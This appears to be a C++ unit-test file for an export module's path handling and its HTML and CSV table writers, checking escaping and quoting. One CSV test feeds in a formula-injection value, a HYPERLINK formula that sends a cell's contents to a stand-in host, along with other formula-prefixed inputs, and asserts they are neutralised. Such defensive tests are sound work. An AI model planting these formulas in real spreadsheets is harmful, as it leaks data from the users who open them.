// The export's file writers and the file name it writes to.
#include "export/table_writer.h"

#include <gtest/gtest.h>

#include <filesystem>
#include <string>
#include <vector>

#include "export/export_path.h"
#include "export_files.h"
#include "support/probes.h"
#include "support/temp_dir.h"

namespace {

using Row = std::vector<TableCell>;

TEST(ExportPath, AppendsHtmUnlessThePathNamesHtmlCsvOrXlsx) {
    const std::pair<const char*, const char*> cases[] = {
        {"/out/list", "/out/list.htm"},
        {"/out/list.htm", "/out/list.htm"},
        {"/out/list.HTML", "/out/list.HTML"},
        {"/a.html.bak", "/a.html.bak"},
        {"/my.htmfiles/list", "/my.htmfiles/list"},
        {"/out/list.Htm", "/out/list.Htm.htm"},  // case counts
        {"/out/list.csv", "/out/list.csv"},
        {"/out/list.CSV", "/out/list.CSV"},
        {"/out/list.csv.txt", "/out/list.csv.txt.htm"},
        {"/out/list.xlsx", "/out/list.xlsx"},
        {"/out/list.XLSX", "/out/list.XLSX"},
        {"/out/list.xls", "/out/list.xls.htm"}};
    for (const auto& [typed, path] : cases) EXPECT_EQ(WithExportExtension(typed), path);
}

TEST(ExportPath, PrepareMakesFoldersAndAnEmptyFileButKeepsAnExistingOne) {
    TempModuleFolder temp;
    const std::string fresh = temp.Path() + "a/b/c.htm";
    ASSERT_TRUE(PrepareExportFile(fresh));
    EXPECT_EQ(std::filesystem::file_size(fresh), 0u);
    const std::string existing = temp.Path() + "old.htm";
    WriteFile(existing, "keep");
    ASSERT_TRUE(PrepareExportFile(existing));
    EXPECT_EQ(ReadFile(existing), "keep");
    std::filesystem::create_directory(temp.Path() + "dir.htm");
    EXPECT_FALSE(PrepareExportFile(temp.Path() + "dir.htm"));  // a folder is no file
}

TEST(HtmlTableWriter, WritesHeadRowsAndTailLineByLineWithEscapes) {
    TempModuleFolder temp;
    const std::string path = temp.Path() + "out.htm";
    {
        CHtmlTableWriter writer;
        ASSERT_EQ(writer.Open("活动资料 <1>", path), 1);
        writer.WriteRow(Row{"主题", "活动类型"});
        writer.WriteRow(Row{"a < b & c \"q\" <script>", ""});
        writer.WriteRow(Row{"第一行\n第二行", "&nbsp;"});
        EXPECT_EQ(writer.Close(), 1);
    }
    EXPECT_EQ(ReadFile(path),
              "<HTML><HEAD><META http-equiv=\"Content-Type\" content=\"text/html; "
              "charset=utf-8\"><TITLE>活动资料 &lt;1&gt;</TITLE></HEAD>\n"
              "<BODY>\n"
              "<TABLE border=1 width=100% cellPadding=0 cellSpacing=0>\n"
              "<TR>\n<TD>主题</TD>\n<TD>活动类型</TD>\n</TR>\n"
              "<TR>\n<TD>a &lt; b &amp; c &quot;q&quot; &lt;script&gt;</TD>\n<TD>&nbsp</TD>\n"
              "</TR>\n"
              "<TR>\n<TD>第一行\n第二行</TD>\n<TD>&amp;nbsp;</TD>\n</TR>\n"
              "</TABLE>\n</BODY>\n</HTML>\n");
}

TEST(HtmlTableWriter, ReplacesAnExistingFileAndKeepsLongTextsWholeAcrossFlushes) {
    TempModuleFolder temp;
    const std::string path = temp.Path() + "sub/dir/out.htm";  // folders made on the way
    const std::string longText(300000, 'a');
    std::vector<std::vector<std::string>> rows;
    for (int round = 0; round < 2; ++round) {
        CHtmlTableWriter writer;
        ASSERT_EQ(writer.Open("t", path), 1);
        rows.clear();
        for (int i = 0; i < 8 - 3 * round; ++i) {
            writer.WriteRow(Row{longText, std::to_string(i)});
            rows.push_back({longText, std::to_string(i)});
        }
    }                                                 // destroyed open: closed with its tail
    EXPECT_EQ(ReadFile(path), HtmlTable("t", rows));  // the shorter second file only
}

// Quotes around commas, quotes and line breaks; a guard before texts that start like a
// formula but not before the numbers the export formats; all after a byte order mark.
TEST(CsvTableWriter, QuotesAndGuardsTextsButNotTheNumbersItFormats) {
    TempModuleFolder temp;
    const std::string path = temp.Path() + "out.CSV";
    {
        auto writer = MakeTableWriter(path);
        ASSERT_EQ(writer->Open("销售资料", path), 1);
        writer->WriteRow(Row{"主题", "金额", ""});
        writer->WriteRow(Row{"a,b", "说\"好\"", "line1\nline2"});
        writer->WriteRow(Row{"cr\rx", "<plain> & ok", ""});
        writer->WriteRow(Row{"=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")", "+1", "-1"});
        writer->WriteRow(Row{"@SUM(A1)", "\tx", "\rx"});
        writer->WriteRow(Row{"a=1", "1+1", "x-@\t"});
        writer->WriteRow(Row{Typed(CellKind::Money, -12.5, "-12.50"),
                             Typed(CellKind::Integer, -3, "-3"),
                             Typed(CellKind::Day, 1172729109, "2007_03_01")});
        ASSERT_EQ(writer->Close(), 1);
    }
    EXPECT_EQ(ReadFile(path),
              "\xEF\xBB\xBF"
              "主题,金额,\r\n"
              "\"a,b\",\"说\"\"好\"\"\",\"line1\nline2\"\r\n"
              "\"cr\rx\",<plain> & ok,\r\n"
              "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点我\"\")\",'+1,'-1\r\n"
              "'@SUM(A1),'\tx,\"'\rx\"\r\n"
              "a=1,1+1,x-@\t\r\n"
              "-12.50,-3,2007_03_01\r\n");
}

}  // namespace
